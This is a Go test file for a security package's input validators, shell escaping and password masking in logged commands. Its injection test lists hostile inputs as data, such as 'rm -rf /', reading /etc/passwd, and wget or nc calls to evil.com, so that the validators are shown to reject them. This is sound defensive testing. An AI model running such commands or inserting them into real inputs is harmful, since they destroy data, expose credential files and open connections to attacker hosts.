package security

import (
	"strings"
	"testing"
)

func TestValidateHostAlias(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid simple", "production", false},
		{"valid with numbers", "web01", false},
		{"valid with hyphens", "db-primary", false},
		{"valid with underscores", "db_replica", false},
		{"valid with dots", "eu.web01", false},
		{"valid uppercase", "Prod", false},
		{"valid single char", "a", false},
		{"empty", "", true},
		{"starts with hyphen", "-prod", true},
		{"ends with dot", "prod.", true},
		{"space", "my host", true},
		{"too long", strings.Repeat("a", 65), true},
		{"max length", strings.Repeat("a", 64), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateHostAlias(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateHostAlias(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateUsername(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid root", "root", false},
		{"valid deploy", "deploy", false},
		{"valid with underscore prefix", "_svc", false},
		{"valid with numbers", "user01", false},
		{"valid with hyphen", "web-admin", false},
		{"valid with dot", "john.doe", false},
		{"valid uppercase", "Admin", false},
		{"empty", "", true},
		{"starts with number", "1user", true},
		{"starts with hyphen", "-user", true},
		{"with at sign", "user@host", true},
		{"too long", strings.Repeat("a", 33), true},
		{"max length", strings.Repeat("a", 32), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateUsername(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateUsername(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateHostname(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid short name", "localhost", false},
		{"valid fqdn", "web01.example.com", false},
		{"valid trailing dot", "example.com.", false},
		{"valid ipv4", "192.168.1.10", false},
		{"valid ipv6", "::1", false},
		{"valid bracketed ipv6", "[2001:db8::1]", false},
		{"empty", "", true},
		{"empty label", "web..example.com", true},
		{"label starts with hyphen", "-web.example.com", true},
		{"with port", "example.com:22", true},
		{"with user", "root@example.com", true},
		{"too long", strings.Repeat("a.", 127) + "ab", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateHostname(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateHostname(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestShellEscape(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		expected string
	}{
		{"empty string", "", "''"},
		{"simple string", "hello", "'hello'"},
		{"with spaces", "hello world", "'hello world'"},
		{"with single quotes", "it's", "'it'\\''s'"},
		{"with double quotes", `say "hello"`, `'say "hello"'`},
		{"with backticks", "echo `id`", "'echo `id`'"},
		{"with dollar paren", "echo $(id)", "'echo $(id)'"},
		{"with dollar brace", "echo ${PATH}", "'echo ${PATH}'"},
		{"with newline", "line1\nline2", "'line1\nline2'"},
		{"with semicolon", "cmd1; cmd2", "'cmd1; cmd2'"},
		{"directory with quote", "/srv/o'brien/app", "'/srv/o'\\''brien/app'"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ShellEscape(tt.input)
			if got != tt.expected {
				t.Errorf("ShellEscape(%q) = %q, want %q", tt.input, got, tt.expected)
			}
		})
	}
}

func TestSanitizeCommandForLog(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		contains string // substring that should NOT be present
		masked   bool   // true if the output should contain ****
	}{
		{
			"masks PGPASSWORD",
			"PGPASSWORD=s3cret pg_dump app",
			"s3cret",
			true,
		},
		{
			"masks quoted token",
			"API_TOKEN='abc def' ./deploy.sh",
			"abc def",
			true,
		},
		{
			"masks double quoted secret",
			`export AWS_SECRET_ACCESS_KEY="xyz123"; aws s3 ls`,
			"xyz123",
			true,
		},
		{
			"masks MYSQL_ROOT_PASSWORD",
			"-e MYSQL_ROOT_PASSWORD=rootpass",
			"rootpass",
			true,
		},
		{
			"masks every assignment",
			"DB_PASSWORD=one REDIS_PASSWORD=two ./run",
			"two",
			true,
		},
		{
			"masks -p<password>",
			"mysqladmin ping -uadmin -psecretpass --silent",
			"secretpass",
			true,
		},
		{
			"no masking for safe commands",
			"uptime && df -h",
			"",
			false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := SanitizeCommandForLog(tt.input)
			if tt.masked && !strings.Contains(result, "****") {
				t.Errorf("expected masked output to contain '****', got %q", result)
			}
			if !tt.masked && result != tt.input {
				t.Errorf("expected %q unchanged, got %q", tt.input, result)
			}
			if tt.contains != "" && strings.Contains(result, tt.contains) {
				t.Errorf("sanitized output should not contain %q, got %q", tt.contains, result)
			}
		})
	}
}

func TestSanitizeCommandForLog_KeepsCommand(t *testing.T) {
	got := SanitizeCommandForLog("PGPASSWORD=s3cret pg_dump app")
	if got != "PGPASSWORD=**** pg_dump app" {
		t.Errorf("unexpected sanitized command %q", got)
	}
}

// Test injection attempts that could bypass validation
func TestInjectionAttempts(t *testing.T) {
	injectionPayloads := []string{
		"test;rm -rf /",
		"test && cat /etc/passwd",
		"test || wget evil.com",
		"test`id`",
		"test$(whoami)",
		"test\nmalicious",
		"test\rmalicious",
		"test|nc evil.com 80",
		"test>/etc/passwd",
		"test<script>",
	}

	t.Run("HostAlias blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateHostAlias(payload); err == nil {
				t.Errorf("ValidateHostAlias should reject: %q", payload)
			}
		}
	})

	t.Run("Username blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateUsername(payload); err == nil {
				t.Errorf("ValidateUsername should reject: %q", payload)
			}
		}
	})

	t.Run("Hostname blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateHostname(payload); err == nil {
				t.Errorf("ValidateHostname should reject: %q", payload)
			}
		}
	})
}
